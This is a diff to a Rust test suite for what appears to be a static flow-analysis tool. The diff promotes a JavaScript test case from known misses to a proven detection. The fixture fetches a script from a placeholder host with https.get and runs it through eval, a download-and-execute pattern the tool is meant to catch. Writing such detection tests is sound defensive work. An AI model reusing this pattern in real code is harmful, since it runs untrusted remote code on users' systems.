@@ -74,25 +74,21 @@ fn what_a_library_names_goes_to_the_parameter_at_its_place() {
     assert!(paths.contains("-> process.command"), "{paths}");
 }
 
+/// What a function stores in a variable of an enclosing one is what it was called with.
+#[test]
+fn what_one_callback_collects_another_has() {
+    let text = "const https = require('https');\nhttps.get('https://code.example.invalid/p.js', (answer) => {\n  let body = '';\n  answer.on('data', (part) => { body += part; });\n  answer.on('end', () => { eval(body); });\n});\n";
+    let paths = Place::new().file("load.js", text).run(&["dev", "paths", "load.js"]).stdout;
+    let wanted = "network.response https.get(https://code.example.invalid/p.js) -> code.execute eval(script) proven";
+    assert!(paths.contains(wanted), "{paths}");
+}
+
 /// Known misses in JavaScript. Each passes as long as the flow is not seen, and says why it is not.
 mod known {
     use crate::place::Place;
 
     fn paths(text: &str) -> String {
         Place::new().file("known.js", text).run(&["dev", "paths", "known.js"]).stdout
-    }
-
-    /// A callback's parameter that is stored in a variable of an enclosing function is not replaced by what the
-    /// callback is called with.
-    #[test]
-    fn what_one_callback_collects_for_another_is_not_followed() {
-        let text = "const https = require('https');\nhttps.get('https://code.example.invalid/p.js', (answer) => {\n  let body = '';\n  answer.on('data', (part) => { body += part; });\n  answer.on('end', () => { eval(body); });\n});\n";
-        let paths = paths(text);
-        assert!(paths.contains("parameter part -> code.execute eval(script)"), "{paths}");
-        assert!(
-            !paths.contains("network.response") || !paths.contains("-> code.execute eval(script) proven"),
-            "{paths}"
-        );
     }
 
     /// `pipe` writes nothing to what it is given.
